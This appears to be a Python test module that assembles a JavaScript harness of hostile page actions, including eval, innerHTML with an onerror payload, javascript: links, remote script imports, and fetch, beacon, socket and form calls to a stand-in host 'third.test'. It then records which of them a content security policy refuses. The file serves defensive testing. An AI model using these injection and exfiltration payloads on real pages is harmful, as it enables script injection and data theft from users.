"""What a hostile script in a page tries: to run text, to bring more script in, to reach somebody, to move the page away."""

THIRD = "https://third.test"
ATTEMPTS = {
    "inline script": "put('script', { textContent: RAN });",
    "inline script in a fragment": "document.body.append(document.createRange().createContextualFragment(SCRIPT));",
    "eval": "eval(RAN);",
    "new Function": "new Function(RAN)();",
    "timer with text": "setTimeout(RAN);",
    "text as HTML": "put('div', {}).innerHTML = IMAGE;",
    "adjacent HTML": "document.body.insertAdjacentHTML('beforeend', IMAGE);",
    "document.write": "document.write(SCRIPT);",
    "handler attribute": "const b = put('b', {}); b.setAttribute('onclick', RAN); b.click();",
    "script address": "put('a', { href: 'javascript:' + RAN }).click();",
    "script from elsewhere": "put('script', { src: THIRD + '/x.js' });",
    "import from data": "import('data:text/javascript,' + encodeURIComponent(RAN)).catch(() => {});",
    "import from elsewhere": "import(THIRD + '/x.js').catch(() => {});",
    "worker from text": "new Worker(URL.createObjectURL(new Blob([`fetch('${THIRD}')`])));",
    "policy of its own": "trustedTypes.createPolicy('evil', { createHTML: (x) => x });",
    "policy of ours": "trustedTypes.createPolicy('voute', { createHTML: (x) => x });",
    "fetch": "fetch(THIRD + '/x').catch(() => {});",
    "beacon": "navigator.sendBeacon(THIRD + '/x', 'y');",
    "socket": "new WebSocket('wss://third.test/x');",
    "picture": "new Image().src = THIRD + '/x.png';",
    "style": "put('link', { rel: 'stylesheet', href: THIRD + '/x.css' });",
    "inline style": "put('style', { textContent: `body { background: url(${THIRD}/x) }` });",
    "frame": "put('iframe', { src: THIRD });",
    "frame of our own": "put('iframe', { src: '/verifier' });",
    "object": "put('object', { data: THIRD + '/x' });",
    "base": "put('base', { href: THIRD });",
    "form": "put('form', { action: THIRD, method: 'post' }).submit();",
}

_ARMED = """
(() => {
  const RAN = 'document.documentElement.dataset.ran=1';
  const THIRD = '%s';
  const SCRIPT = `<script>${RAN}</` + 'script>';
  const IMAGE = `<img src=/nothing onerror=${RAN}>`;
  const put = (tag, fields) => {
    const element = Object.assign(document.createElement(tag), fields);
    document.body.append(element);
    return element;
  };
  globalThis.reports = [];
  addEventListener('securitypolicyviolation', (event) => { reports.push(event.effectiveDirective); });
  globalThis.attempts = { %s };
})();
"""


def armed() -> str:
    """Give the script that makes the attempts possible: `attempts[name]()`, and `reports` of what was refused."""
    listed = ",".join(f"{name!r}: () => {{ {code} }}" for name, code in ATTEMPTS.items())
    return _ARMED % (THIRD, listed)
